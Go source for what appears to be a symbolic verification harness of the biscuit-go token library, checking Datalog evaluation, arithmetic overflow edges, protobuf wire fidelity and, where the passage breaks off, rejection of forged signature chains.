	binding := map[Variable]Term{}
	for i, p := range cr.r.Body {
		f := tuple[i]
		cond = vAnd(cond, p.Name == f.Name)
		if len(p.Terms) != len(f.Terms) {
			return false, nil
		}
		for j, t := range p.Terms {
			if v, isVar := t.(Variable); isVar {
				if prev, ok := binding[v]; ok {
					cond = vAnd(cond, refTermEq(prev, f.Terms[j]))
				} else {
					binding[v] = f.Terms[j]
				}
			} else {
				cond = vAnd(cond, refTermEq(t, f.Terms[j]))
			}
		}
	}
	if cr.hasExp {
		bv, ok := binding[cr.expVar].(Integer)
		if !ok {
			return false, nil
		}
		cond = vAnd(cond, int64(bv) < cr.expC)
	}
	inst := make([]Term, len(cr.r.Head.Terms))
	for j, t := range cr.r.Head.Terms {
		if v, isVar := t.(Variable); isVar {
			inst[j] = binding[v]
		} else {
			inst[j] = t
		}
	}
	return cond, inst
}

func c05FactIs(f Fact, name String, terms []Term) bool {
	if len(f.Terms) != len(terms) {
		return false
	}
	c := f.Name == name
	for j := range terms {
		c = vAnd(c, refTermEq(f.Terms[j], terms[j]))
	}
	return c
}

func c05Ground(fs []Fact) bool {
	for _, f := range fs {
		for _, t := range f.Terms {
			if t == nil {
				return false
			}
			if _, isVar := t.(Variable); isVar {
				return false
			}
		}
	}
	return true
}

// c05Tuples enumerates all index tuples of length n over [0,limit).
func c05Tuples(n, limit int, f func(idx []int)) {
	idx := make([]int, n)
	if limit == 0 {
		return
	}
	for {
		f(idx)
		k := n - 1
		for k >= 0 {
			idx[k]++
			if idx[k] < limit {
				break
			}
			idx[k] = 0
			k--
		}
		if k < 0 {
			return
		}
	}
}

// c05Closed: every rule application over the result is already in the result.
func c05Closed(pg c05Prog, res []Fact) bool {
	ok := true
	for _, cr := range pg.rules {
		nb := len(cr.r.Body)
		c05Tuples(nb, len(res), func(idx []int) {
			tuple := make([]Fact, nb)
			for i, k := range idx {
				tuple[i] = res[k]
			}
			cond, inst := c05Matches(cr, tuple)
			if inst == nil {
				return
			}
			present := false
			for _, f := range res {
				present = vOr(present, c05FactIs(f, cr.r.Head.Name, inst))
			}
			ok = vAnd(ok, vImplies(cond, present))
		})
	}
	return ok
}

// c05Grounded: every derived fact has a derivation from facts that precede it.
func c05Grounded(pg c05Prog, res []Fact, n0 int) bool {
	ok := true
	for j := n0; j < len(res); j++ {
		derivable := false
		for _, cr := range pg.rules {
			nb := len(cr.r.Body)
			c05Tuples(nb, j, func(idx []int) {
				tuple := make([]Fact, nb)
				for i, k := range idx {
					tuple[i] = res[k]
				}
				cond, inst := c05Matches(cr, tuple)
				if inst == nil {
					return
				}
				derivable = vOr(derivable, vAnd(cond, c05FactIs(res[j], cr.r.Head.Name, inst)))
			})
		}
		ok = vAnd(ok, derivable)
	}
	return ok
}

func c05NoDup(res []Fact) bool {
	ok := true
	for i := range res {
		for j := 0; j < i; j++ {
			ok = vAnd(ok, vNot(c05FactIs(res[i], res[j].Name, res[j].Terms)))
		}
	}
	return ok
}

// VerifC05Fixpoint: Run to completion, then closure + well-founded derivations (= least model).
func VerifC05Fixpoint() {
	vForbidPanic("C05")
	vTimerMode(0)
	pg := c05Program()
	syms := &SymbolTable{}
	w := NewWorld(WithMaxFacts(1000), WithMaxIterations(100), WithMaxDuration(30*time.Second))
	// initial facts may coincide: the world stores a set
	for _, f := range pg.facts {
		w.AddFact(f)
	}
	initial := append([]Fact{}, (*w.Facts())...)
	vAssert(c05NoDup(initial), "C05.initial-set")
	// every supplied fact is present
	for _, f := range pg.facts {
		in := false
		for _, g := range initial {
			in = vOr(in, c05FactIs(g, f.Name, f.Terms))
		}
		vAssert(in, "C05.initial-present")
	}
	for _, cr := range pg.rules {
		w.AddRule(cr.r)
	}
	err := w.Run(syms)
	vObserve("run-error", err != nil)
	if err != nil {
		vCover("run-error")
		// range-restricted, error-free programs within generous limits never fail
		vAssert(false, "C05.no-error")
		return
	}
	vCover("run-ok")
	res := append([]Fact{}, (*w.Facts())...)
	vObserve("nfacts", len(res))
	if len(res) > len(initial) {
		vCover("derived")
	}
	vAssert(len(res) >= len(initial), "C05.monotone")
	ground := c05Ground(res)
	vAssert(ground, "C05.ground")
	if !ground {
		return
	}
	// initial facts stay a prefix
	pre := true
	for i := range initial {
		if i < len(res) {
			pre = vAnd(pre, c05FactIs(res[i], initial[i].Name, initial[i].Terms))
		}
	}
	vAssert(pre, "C05.prefix")
	vAssert(c05Closed(pg, res), "C05.closed")
	vAssert(c05Grounded(pg, res, len(initial)), "C05.grounded")
	vAssert(c05NoDup(res), "C05.nodup")

	// QueryRule returns exactly the head instances of the matching substitutions
	for _, cr := range pg.rules {
		q := w.QueryRule(cr.r, syms)
		qs := append([]Fact{}, (*q)...)
		vAssert(c05Ground(qs), "C05.query-ground")
		if !c05Ground(qs) {
			return
		}
		vAssert(c05NoDup(qs), "C05.query-nodup")
		nb := len(cr.r.Body)
		complete := true
		sound := make([]bool, len(qs))
		c05Tuples(nb, len(res), func(idx []int) {
			tuple := make([]Fact, nb)
			for i, k := range idx {
				tuple[i] = res[k]
			}
			cond, inst := c05Matches(cr, tuple)
			if inst == nil {
				return
			}
			present := false
			for k, f := range qs {
				is := c05FactIs(f, cr.r.Head.Name, inst)
				present = vOr(present, is)
				sound[k] = vOr(sound[k], vAnd(cond, is))
			}
			complete = vAnd(complete, vImplies(cond, present))
		})
		vAssert(complete, "C05.query-complete")
		allSound := true
		for _, s := range sound {
			allSound = vAnd(allSound, s)
		}
		vAssert(allSound, "C05.query-sound")
	}
}

// VerifC05QueryErrors: a query whose expression cannot be evaluated for some of the matching facts (a
// comparison meeting a string) still returns exactly the head instances of the substitutions that
// make the expression true -- whatever the order of the facts.
func VerifC05QueryErrors() {
	vForbidPanic("C05")
	vTimerMode(0)
	F := vParam("facts")
	syms := &SymbolTable{}
	w := NewWorld(WithMaxFacts(1000), WithMaxIterations(100), WithMaxDuration(30*time.Second))
	for i := 0; i < F; i++ {
		kind := [...]int{kInt, kStr}[vChoose("f.kind", 2)]
		w.AddFact(Fact{Predicate{Name: String(vUint64("f.name")), Terms: []Term{c05Const("f.term", kind)}}})
	}
	res := append([]Fact{}, (*w.Facts())...)
	cr := c05Rule{hasExp: true, expVar: Variable(0), expC: vInt64("r.expc")}
	cr.r = Rule{
		Head:        Predicate{Name: String(vUint64("h.name")), Terms: []Term{Variable(0)}},
		Body:        []Predicate{{Name: String(vUint64("b.name")), Terms: []Term{Variable(0)}}},
		Expressions: []Expression{{Value{ID: Variable(0)}, Value{ID: Integer(cr.expC)}, BinaryOp{LessThan{}}}},
	}
	q := w.QueryRule(cr.r, syms)
	qs := append([]Fact{}, (*q)...)
	vCover("queried")
	vAssert(c05Ground(qs), "C05.query-ground")
	if !c05Ground(qs) {
		return
	}
	complete := true
	sound := make([]bool, len(qs))
	c05Tuples(1, len(res), func(idx []int) {
		cond, inst := c05Matches(cr, []Fact{res[idx[0]]})
		if inst == nil {
			return
		}
		present := false
		for k, f := range qs {
			is := c05FactIs(f, cr.r.Head.Name, inst)
			present = vOr(present, is)
			sound[k] = vOr(sound[k], vAnd(cond, is))
		}
		complete = vAnd(complete, vImplies(cond, present))
	})
	vAssert(complete, "C05.query-complete-despite-errors")
	allSound := true
	for _, s := range sound {
		allSound = vAnd(allSound, s)
	}
	vAssert(allSound, "C05.query-sound")
	if len(qs) > 0 {
		vCover("answered")
	}
}
