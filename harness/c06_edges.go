package datalog

// C06 — arithmetic at the 64-bit boundaries. One operand is a concrete boundary value, the other is
// fully symbolic: multiplication/division by a constant is within the solver's reach even where the
// general product is not, so an overflow check that is wrong only at a boundary pair is found.

var c06Edge = [...]int64{-9223372036854775808, -9223372036854775807, -4294967296, -3037000500, -2, -1, 0, 1, 2, 3037000500, 4294967296, 9223372036854775806, 9223372036854775807}

func VerifC06ArithEdges() {
	vForbidPanic("C06")
	ops := [...]BinaryOpType{BinaryAdd, BinarySub, BinaryMul, BinaryDiv}
	op := ops[vChoose("aop", 4)]
	k := c06Edge[vChoose("edge", len(c06Edge))]
	x := vInt64("x")
	var l, r Integer
	switch vChoose("side", 3) {
	case 0:
		l, r = Integer(k), Integer(x)
		vLabel("op=" + c06OpNames[op] + " boundary constant on the left")
	case 1:
		l, r = Integer(x), Integer(k)
		vLabel("op=" + c06OpNames[op] + " boundary constant on the right")
	default:
		l, r = Integer(k), Integer(c06Edge[vChoose("edge2", len(c06Edge))])
		vLabel("op=" + c06OpNames[op] + " two boundary constants")
	}
	syms := c06Syms(1, 2)
	pre := &SymbolTable{(*syms)[0], (*syms)[1]}
	res, err := c06BinaryOp(int(op)).Eval(l, r, syms)
	vCover("evaluated")
	vObserve("err", err != nil)
	c06CheckBinary(op, l, r, pre, syms, res, err, "C06.edges")
}
