package biscuit

// C07 — wire fidelity (message level): the protobuf message handed to the codec carries exactly the
// caller's Datalog under the published symbol rules, and the round trip is lossless.
// The decoder below is written from biscuit.proto and the symbol rules, not from the converters.

import (
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// the default symbol table as published (own copy, not datalog.DEFAULT_SYMBOLS)
var wDefaults = [...]string{"read", "write", "resource", "operation", "right", "time", "role", "owner", "tenant", "namespace", "user", "team", "service", "admin", "email", "group", "member", "ip_address", "client", "client_ip", "domain", "path", "version", "cluster", "node", "hostname", "nonce", "query"}

// operator numbers of the schema, indexed by the builder-level constants
var wUnary = map[UnaryOp]int32{UnaryNegate: 0, UnaryParens: 1, UnaryLength: 2}
var wBinary = map[BinaryOp]int32{BinaryLessThan: 0, BinaryGreaterThan: 1, BinaryLessOrEqual: 2, BinaryGreaterOrEqual: 3, BinaryEqual: 4,
	BinaryContains: 5, BinaryPrefix: 6, BinarySuffix: 7, BinaryRegex: 8, BinaryAdd: 9, BinarySub: 10, BinaryMul: 11, BinaryDiv: 12,
	BinaryAnd: 13, BinaryOr: 14, BinaryIntersection: 15, BinaryUnion: 16}

// wResolve: symbol index -> text under the published rules (tables = symbols of this and earlier blocks)
func wResolve(idx uint64, tables []string) (string, bool) {
	if idx < 1024 {
		if idx < uint64(len(wDefaults)) {
			return wDefaults[idx], true
		}
		return "", false
	}
	if idx-1024 < uint64(len(tables)) {
		return tables[idx-1024], true
	}
	return "", false
}

func wSymEq(idx uint64, tables []string, want string) bool {
	got, ok := wResolve(idx, tables)
	return ok && vStrEq(got, want)
}

// wTermOK: the wire term denotes the caller's term
func wTermOK(p *pb.TermV2, t Term, tables []string) bool {
	if p == nil {
		return false
	}
	switch x := t.(type) {
	case Variable:
		c, ok := p.Content.(*pb.TermV2_Variable)
		return ok && wSymEq(uint64(c.Variable), tables, string(x))
	case Integer:
		c, ok := p.Content.(*pb.TermV2_Integer)
		return ok && c.Integer == int64(x)
	case String:
		c, ok := p.Content.(*pb.TermV2_String_)
		return ok && wSymEq(c.String_, tables, string(x))
	case Date:
		c, ok := p.Content.(*pb.TermV2_Date)
		return ok && c.Date == uint64(time.Time(x).Unix())
	case Bytes:
		c, ok := p.Content.(*pb.TermV2_Bytes)
		return ok && vBytesEq(c.Bytes, []byte(x))
	case Bool:
		c, ok := p.Content.(*pb.TermV2_Bool)
		return ok && c.Bool == bool(x)
	case Set:
		c, ok := p.Content.(*pb.TermV2_Set)
		if !ok || c.Set == nil || len(c.Set.Set) != len(x) {
			return false
		}
		r := true
		for i := range x {
			r = vAnd(r, wTermOK(c.Set.Set[i], x[i], tables))
		}
		return r
	}
	return false
}

func wPredOK(p *pb.PredicateV2, want Predicate, tables []string) bool {
	if p == nil || p.Name == nil || len(p.Terms) != len(want.IDs) {
		return false
	}
	r := wSymEq(*p.Name, tables, want.Name)
	for i := range want.IDs {
		r = vAnd(r, wTermOK(p.Terms[i], want.IDs[i], tables))
	}
	return r
}

func wExprOK(p *pb.ExpressionV2, want Expression, tables []string) bool {
	if p == nil || len(p.Ops) != len(want) {
		return false
	}
	r := true
	for i, op := range want {
		switch o := op.(type) {
		case Value:
			c, ok := p.Ops[i].Content.(*pb.Op_Value)
			if !ok {
				return false
			}
			r = vAnd(r, wTermOK(c.Value, o.Term, tables))
		case UnaryOp:
			c, ok := p.Ops[i].Content.(*pb.Op_Unary)
			if !ok || c.Unary == nil || c.Unary.Kind == nil {
				return false
			}
			r = vAnd(r, int32(*c.Unary.Kind) == wUnary[o])
		case BinaryOp:
			c, ok := p.Ops[i].Content.(*pb.Op_Binary)
			if !ok || c.Binary == nil || c.Binary.Kind == nil {
				return false
			}
			r = vAnd(r, int32(*c.Binary.Kind) == wBinary[o])
		}
	}
	return r
}

func wRuleOK(p *pb.RuleV2, want Rule, tables []string) bool {
	if p == nil || len(p.Body) != len(want.Body) || len(p.Expressions) != len(want.Expressions) {
		return false
	}
	r := wPredOK(p.Head, want.Head, tables)
	for i := range want.Body {
		r = vAnd(r, wPredOK(p.Body[i], want.Body[i], tables))
	}
	for i := range want.Expressions {
		r = vAnd(r, wExprOK(p.Expressions[i], want.Expressions[i], tables))
	}
	return r
}

type wContent struct {
	facts   []Fact
	rules   []Rule
	checks  []Check
	context string
}

// wBlockOK: the decoded block message denotes the caller's content; its symbols are new ones only.
func wBlockOK(b *pb.Block, want wContent, earlier []string) bool {
	if b.Version == nil || *b.Version != 3 {
		return false
	}
	if b.GetContext() != want.context {
		return false
	}
	tables := append(append([]string{}, earlier...), b.Symbols...)
	r := true
	// new symbols only: not a default symbol, not in an earlier table, no duplicate
	for i, s := range b.Symbols {
		for _, d := range wDefaults {
			r = vAnd(r, vNot(vStrEq(s, d)))
		}
		for _, e := range earlier {
			r = vAnd(r, vNot(vStrEq(s, e)))
		}
		for j := 0; j < i; j++ {
			r = vAnd(r, vNot(vStrEq(s, b.Symbols[j])))
		}
	}
	if len(b.FactsV2) != len(want.facts) || len(b.RulesV2) != len(want.rules) || len(b.ChecksV2) != len(want.checks) {
		return false
	}
	for i, f := range want.facts {
		if b.FactsV2[i] == nil {
			return false
		}
		r = vAnd(r, wPredOK(b.FactsV2[i].Predicate, f.Predicate, tables))
	}
	for i, rl := range want.rules {
		r = vAnd(r, wRuleOK(b.RulesV2[i], rl, tables))
	}
	for i, c := range want.checks {
		if b.ChecksV2[i] == nil || len(b.ChecksV2[i].Queries) != len(c.Queries) {
			return false
		}
		for j, q := range c.Queries {
			r = vAnd(r, wRuleOK(b.ChecksV2[i].Queries[j], q, tables))
		}
	}
	return r
}

func wName(tag string) string { return vString(tag, vParam("namelen")) }

// wTermName: the text of a string/variable term: symbolic when the scenario asks for it
func wTermName(tag string) string {
	if vParam("symterms") != 0 {
		return wName(tag)
	}
	return wFixed(tag)
}

// wFixed: a concrete name for the parts a scenario does not focus on
func wFixed(tag string) string {
	h := 0
	for i := 0; i < len(tag); i++ {
		h = (h*31 + int(tag[i])) % 26
	}
	return "k" + string(rune('a'+h))
}

// wTerm: a term of any kind with symbolic content
func wTerm(tag string, allowVar bool, depth int) Term {
	n := 6
	if depth == 0 {
		n = 7
	}
	k := vChoose(tag+".kind", n)
	switch k {
	case 0:
		return Integer(vInt64(tag + ".int"))
	case 1:
		return String(wTermName(tag + ".str"))
	case 2:
		s := vInt64(tag + ".date")
		// any instant the wire format can carry (seconds as a 64-bit number), including before 1970
		return Date(time.Unix(s, 0))
	case 3:
		return Bytes(vBytes(tag+".bytes", vChoose(tag+".byteslen", 3)))
	case 4:
		return Bool(vBool(tag + ".bool"))
	case 5:
		if allowVar {
			return Variable(wTermName(tag + ".var"))
		}
		return Integer(vInt64(tag + ".int"))
	}
	// a set of one or two elements of the same kind
	e := wTerm(tag+".elt", false, depth+1)
	s := Set{e}
	if vChoose(tag+".two", 2) == 1 {
		switch e.(type) {
		case Integer:
			s = append(s, Integer(vInt64(tag+".elt2")))
		case String:
			s = append(s, String(wTermName(tag+".elt2")))
		case Bool:
			s = append(s, Bool(vBool(tag+".elt2")))
		case Bytes:
			s = append(s, Bytes(vBytes(tag+".elt2", 1)))
		case Date:
			s = append(s, Date(time.Unix(0, 0)))
		}
	}
	return s
}

func wOps(tag string) Expression {
	// X <unary>? then <value> <binary>: covers every operator code
	u := UnaryOp(vChoose(tag+".unary", 4)) // 0 = none
	b := BinaryOp(1 + vChoose(tag+".binary", 17))
	e := Expression{Value{Variable("x")}}
	if u != UnaryUndefined {
		e = append(e, u)
	}
	e = append(e, Value{Integer(vInt64(tag + ".operand"))}, b)
	return e
}

func wGenContent(tag string, focus int) wContent {
	var c wContent
	// one fact with an arbitrary term, one rule, one check; the focus decides which part is rich
	ft := Term(Integer(vInt64(tag + ".f.int")))
	if focus == 0 {
		ft = wTerm(tag+".f.t", false, 0)
	}
	c.facts = []Fact{{Predicate{Name: wName(tag + ".f.name"), IDs: []Term{ft}}}}
	if focus == 1 || focus == 2 {
		r := Rule{Head: Predicate{Name: wFixed(tag + ".r.h"), IDs: []Term{Variable("x")}},
			Body: []Predicate{{Name: wFixed(tag + ".r.b"), IDs: []Term{Variable("x")}}}}
		if focus == 1 {
			r.Body[0].IDs = append(r.Body[0].IDs, wTerm(tag+".r.bt", true, 0))
		} else {
			r.Expressions = []Expression{wOps(tag + ".r.e")}
		}
		c.rules = []Rule{r}
	}
	if focus == 3 {
		q := Rule{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: wFixed(tag + ".c.b"), IDs: []Term{Variable("x")}}},
			Expressions: []Expression{{Value{Variable("x")}, Value{Integer(vInt64(tag + ".c.k"))}, BinaryLessThan}}}
		q2 := Rule{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: wFixed(tag + ".c.b2"), IDs: []Term{wTerm(tag+".c.t", true, 0)}}}}
		c.checks = []Check{{Queries: []Rule{q, q2}}}
		if vChoose(tag+".c.bodyless", 2) == 1 {
			// a query made of an expression alone (no predicate in its body): check if k1 < k2
			q3 := Rule{Head: Predicate{Name: "query"},
				Expressions: []Expression{{Value{Integer(vInt64(tag + ".c.k1"))}, Value{Integer(vInt64(tag + ".c.k2"))}, BinaryLessThan}}}
			c.checks = []Check{{Queries: []Rule{q3, q2}}}
		}
	}
	if focus == 4 {
		c.context = vString(tag+".ctx", 2)
	}
	return c
}

func wDecodeBlock(bytes []byte) (*pb.Block, bool) {
	var b pb.Block
	if err := proto.Unmarshal(bytes, &b); err != nil {
		return nil, false
	}
	return &b, true
}

func VerifC07Wire() {
	vForbidPanic("C07")
	vTimerMode(0)
	pads := vParamOpt("padblocks")
	nfocus := 5
	if pads > 0 {
		nfocus = 1 // the fork family varies the history, not the content
	}
	focus := vChoose("focus", nfocus)
	vLabel("focus=" + [...]string{"fact-term", "rule-body", "rule-expression", "check", "context"}[focus])
	rng := &chainRNG{}
	root := ed25519Key(vWide("root", 32))
	hasID := vChoose("has-id", 2) == 1
	id := vUint32("id")
	opts := []builderOption{WithRNG(rng)}
	if hasID {
		opts = append(opts, WithRootKeyID(id))
	}
	// authority
	ac := wGenContent("auth", focus)
	b := NewBuilder(root, opts...)
	for _, f := range ac.facts {
		vAssert(b.AddAuthorityFact(f) == nil, "C07.add")
	}
	for _, r := range ac.rules {
		b.AddAuthorityRule(r)
	}
	for _, c := range ac.checks {
		b.AddAuthorityCheck(c)
	}
	b.SetContext(ac.context)
	tok, err := b.Build()
	vAssert(err == nil, "C07.build")
	if err != nil {
		return
	}
	// fork family: concrete blocks in between, so that the envelope's block list has spare capacity
	for i := 0; i < pads; i++ {
		padb := tok.CreateBlock()
		padb.AddFact(Fact{Predicate{Name: "pad", IDs: []Term{Integer(i)}}})
		tok, err = tok.Append(rng, padb.Build())
		vAssert(err == nil, "C07.append")
		if err != nil {
			return
		}
	}
	// a second block sharing symbols with the first
	bf := -1 // a plain fact (its name may still coincide with an authority symbol)
	if vParam("blkfocus") > 0 {
		bf = vChoose("blk-focus", vParam("blkfocus")) // fact-term or rule-body
	}
	bc := wGenContent("blk", bf)
	// another builder taken from the same token may be outstanding (a draft never built, or built later):
	// what it was given must not leak into this block's encoding
	if vChoose("outstanding-draft", 2) == 1 {
		draft := tok.CreateBlock()
		draft.AddFact(Fact{Predicate{Name: wName("draft.name"), IDs: []Term{String(wTermName("draft.str"))}}})
		vLabel("another builder outstanding")
	}
	bb := tok.CreateBlock()
	for _, f := range bc.facts {
		bb.AddFact(f)
	}
	for _, r := range bc.rules {
		bb.AddRule(r)
	}
	bb.SetContext(bc.context)
	tok2, err := tok.Append(rng, bb.Build())
	vAssert(err == nil, "C07.append")
	if err != nil {
		return
	}
	if pads > 0 {
		// a sibling derived from the same parent afterwards: what it carries must not reach tok2's bytes
		sb := tok.CreateBlock()
		sb.AddFact(Fact{Predicate{Name: wName("sibling.name"), IDs: []Term{Integer(vInt64("sibling.c"))}}})
		_, serr := tok.Append(rng, sb.Build())
		vAssert(serr == nil, "C07.append")
		vLabel("sibling appended afterwards")
	}
	// ---- what is on the wire
	data, err := tok2.Serialize()
	vAssert(err == nil, "C07.serialize")
	if err != nil {
		return
	}
	var env pb.Biscuit
	vAssert(proto.Unmarshal(data, &env) == nil, "C07.decode-envelope")
	if env.Authority == nil || len(env.Blocks) != 1+pads {
		vAssert(false, "C07.envelope-shape")
		return
	}
	pa, ok1 := wDecodeBlock(env.Authority.Block)
	pbk, ok2 := wDecodeBlock(env.Blocks[pads].Block)
	vAssert(ok1 && ok2, "C07.decode-blocks")
	if !ok1 || !ok2 {
		return
	}
	earlier := append([]string{}, pa.Symbols...)
	for i := 0; i < pads; i++ {
		pp, okp := wDecodeBlock(env.Blocks[i].Block)
		vAssert(okp, "C07.decode-blocks")
		if !okp {
			return
		}
		earlier = append(earlier, pp.Symbols...)
	}
	vCover("decoded")
	vAssert(wBlockOK(pa, ac, nil), "C07.authority-content")
	vAssert(wBlockOK(pbk, bc, earlier), "C07.block-content")
	if hasID {
		vAssert(env.RootKeyId != nil && *env.RootKeyId == id, "C07.root-key-id")
	} else {
		vAssert(env.RootKeyId == nil, "C07.root-key-id")
	}
	// ---- round trip
	re, err := Unmarshal(data)
	vAssert(err == nil, "C07.unmarshal")
	if err != nil {
		return
	}
	data2, err := re.Serialize()
	vAssert(err == nil && vBytesEq(data, data2), "C07.reserialize-same-bytes")
	vAssert(c16SameID(re.RootKeyID(), hasID, id), "C07.roundtrip-root-key-id")
	ids, rids := tok2.RevocationIds(), re.RevocationIds()
	vAssert(len(ids) == len(rids), "C07.roundtrip-revocation-ids")
	for i := range ids {
		if i < len(rids) {
			vAssert(vBytesEq(ids[i], rids[i]), "C07.roundtrip-revocation-ids")
		}
	}
	// the reloaded token's blocks, converted back to messages, are the same messages
	pa2, err1 := tokenBlockToProtoBlock(re.authority)
	if len(re.blocks) != 1+pads {
		vAssert(false, "C07.roundtrip-shape")
		return
	}
	pb2, err2 := tokenBlockToProtoBlock(re.blocks[pads])
	vAssert(err1 == nil && err2 == nil, "C07.roundtrip-convert")
	if err1 == nil && err2 == nil {
		vAssert(wBlockOK(pa2, ac, nil), "C07.roundtrip-authority-content")
		vAssert(wBlockOK(pb2, bc, earlier), "C07.roundtrip-block-content")
	}
	vCover("roundtrip")
}

// VerifC07Version: a block declaring a schema version other than 3 is rejected.
func VerifC07Version() {
	vForbidPanic("C07")
	v := vUint32("version")
	absent := vChoose("absent", 2) == 1
	blk := hBlock("auth", "none")
	if absent {
		blk.Version = nil
	} else {
		blk.Version = &v
	}
	h, ok := hSign([]*pb.Block{blk}, false)
	if !ok {
		return
	}
	_, err := Unmarshal(h.data)
	vCover("checked")
	if absent {
		vAssert(err != nil, "C07.version-absent-rejected")
		return
	}
	vAssert((err == nil) == (v == 3), "C07.version-gate")
}

// VerifC07Defaults: names of a length at which default symbols exist (4: read, time, role, user, team,
// path, node; 5: write, right, owner, admin, email, group, nonce, query). The solver decides whether a
// name IS a default symbol; the block's table must then not repeat it and the index must be the
// default one.
func VerifC07Defaults() {
	vForbidPanic("C07")
	n := vParam("namelen")
	rng := &chainRNG{}
	root := ed25519Key(vWide("root", 32))
	name := vString("name", n)
	str := vString("str", n)
	c := wContent{facts: []Fact{{Predicate{Name: name, IDs: []Term{String(str)}}}}}
	b := NewBuilder(root, WithRNG(rng))
	b.AddAuthorityFact(c.facts[0])
	tok, err := b.Build()
	vAssert(err == nil, "C07.build")
	if err != nil {
		return
	}
	// a block that uses the same two strings again plus a default symbol by its text
	bc := wContent{facts: []Fact{{Predicate{Name: str, IDs: []Term{String(name), String("query")}}}}}
	bb := tok.CreateBlock()
	bb.AddFact(bc.facts[0])
	tok2, err := tok.Append(rng, bb.Build())
	vAssert(err == nil, "C07.append")
	if err != nil {
		return
	}
	data, err := tok2.Serialize()
	vAssert(err == nil, "C07.serialize")
	if err != nil {
		return
	}
	var env pb.Biscuit
	vAssert(proto.Unmarshal(data, &env) == nil, "C07.decode-envelope")
	if env.Authority == nil || len(env.Blocks) != 1 {
		vAssert(false, "C07.envelope-shape")
		return
	}
	pa, ok1 := wDecodeBlock(env.Authority.Block)
	pbk, ok2 := wDecodeBlock(env.Blocks[0].Block)
	if !ok1 || !ok2 {
		vAssert(false, "C07.decode-blocks")
		return
	}
	vCover("decoded")
	if len(pa.Symbols) < 2 {
		vCover("default-or-shared-symbol")
	}
	vAssert(wBlockOK(pa, c, nil), "C07.defaults.authority-content")
	vAssert(wBlockOK(pbk, bc, pa.Symbols), "C07.defaults.block-content")
	vAssert(len(pbk.Symbols) == 0, "C07.defaults.block-adds-no-symbol")
	re, err := Unmarshal(data)
	vAssert(err == nil, "C07.unmarshal")
	if err == nil {
		d2, err := re.Serialize()
		vAssert(err == nil && vBytesEq(data, d2), "C07.reserialize-same-bytes")
	}
}
