package biscuit

// C01 / C09 / C16 / C17 — the signature chain, sealing, root key ids and revocation identifiers.

import (
	"crypto/ed25519"
	"errors"

	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// chainRNG delivers fresh symbolic bytes and remembers every 32-byte seed it handed out.
type chainRNG struct {
	seeds [][]byte
}

func (r *chainRNG) Read(p []byte) (int, error) {
	b := vWide("seed", len(p))
	copy(p, b)
	r.seeds = append(r.seeds, b)
	return len(p), nil
}

type chainWorld struct {
	rootSeed []byte
	root     ed25519.PrivateKey
	rootPub  ed25519.PublicKey
	rng      *chainRNG
	tokens   []*Biscuit // tokens[j] has j appended blocks
}

// chainBuild creates an honest token with n appended blocks through the real API.
func chainBuild(n int, keyID *uint32) *chainWorld {
	w := &chainWorld{rng: &chainRNG{}}
	w.rootSeed = vWide("root", 32)
	w.root = ed25519.NewKeyFromSeed(w.rootSeed)
	w.rootPub = w.root.Public().(ed25519.PublicKey)
	opts := []builderOption{WithRNG(w.rng)}
	if keyID != nil {
		opts = append(opts, WithRootKeyID(*keyID))
	}
	b := NewBuilder(w.root, opts...)
	b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{Integer(0)}}})
	t, err := b.Build()
	vAssert(err == nil, "chain.build")
	if err != nil {
		vAssume(false)
	}
	w.tokens = append(w.tokens, t)
	for i := 1; i <= n; i++ {
		bb := t.CreateBlock()
		bb.AddFact(Fact{Predicate{Name: "blk", IDs: []Term{Integer(i)}}})
		t2, err := t.Append(w.rng, bb.Build())
		vAssert(err == nil, "chain.append")
		if err != nil {
			vAssume(false)
		}
		t = t2
		w.tokens = append(w.tokens, t)
	}
	return w
}

func le32(v int32) []byte {
	u := uint32(v)
	return []byte{byte(u), byte(u >> 8), byte(u >> 16), byte(u >> 24)}
}

func cat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

// selBytes returns pool[sel] for a symbolic selector, as an ite chain (no forking).
func selBytes(sel int, pool [][]byte) []byte {
	return vSelBytes(sel, pool)
}

// VerifC01Chain: every container assembled from honest and attacker material is accepted iff the chain
// condition of the specification holds.
func VerifC01Chain() {
	vForbidPanic("C01")
	N := vParam("blocks")
	w := chainBuild(N, nil)
	T := w.tokens[N]
	sealed, serr := T.Seal(w.rng)
	vAssert(serr == nil, "C01.seal")
	if serr != nil {
		return
	}
	// the genuine tokens have been presented and accepted in this process before (a bearer token is
	// shown with every request): whatever the library remembers from that must not help a forgery
	_, herr := T.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
	vAssert(herr == nil, "C01.honest-accepted-first")
	_, herr = sealed.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
	vAssert(herr == nil, "C01.honest-accepted-first")
	// honest material, by position
	honest := []*pb.SignedBlock{T.container.Authority}
	honest = append(honest, T.container.Blocks...)
	// every secret a party could hold: root (issuer), the proof secret of each prefix, the attacker's own
	attackerSeed := vWide("attacker", 32)
	secrets := [][]byte{w.rootSeed, attackerSeed}
	for j := 0; j <= N; j++ {
		secrets = append(secrets, w.tokens[j].container.Proof.GetNextSecret())
	}

	m := vChoose("presented-blocks", N+2) // number of blocks after the authority: 0..N+1
	blk := make([][]byte, m+1)
	key := make([][]byte, m+1)
	sig := make([][]byte, m+1)
	alg := make([]int32, m+1)
	for i := 0; i <= m; i++ {
		// block bytes: any honest block, at any position (reorder, removal, insertion, duplication)
		blk[i] = honest[vChoose("block-from", N+1)].Block
		// announced key: an honest announced key, the attacker's public key, or arbitrary bytes
		keyPool := [][]byte{}
		for _, h := range honest {
			keyPool = append(keyPool, h.NextKey.Key)
		}
		keyPool = append(keyPool, vPub(attackerSeed), vWide("anykey", 32))
		ks := vInt("key-sel")
		vAssume(vAnd(ks >= 0, ks < len(keyPool)))
		key[i] = selBytes(ks, keyPool)
		// algorithm: Ed25519 or any other number
		alg[i] = vIteInt32(vBool("alg-honest"), 0, vInt32("alg"))
		payload := cat(blk[i], le32(alg[i]), key[i])
		// signature: an honest signature, a signature by any known secret over exactly what is placed here, or arbitrary bytes
		sigPool := [][]byte{}
		for _, h := range honest {
			sigPool = append(sigPool, h.Signature)
		}
		for _, s := range secrets {
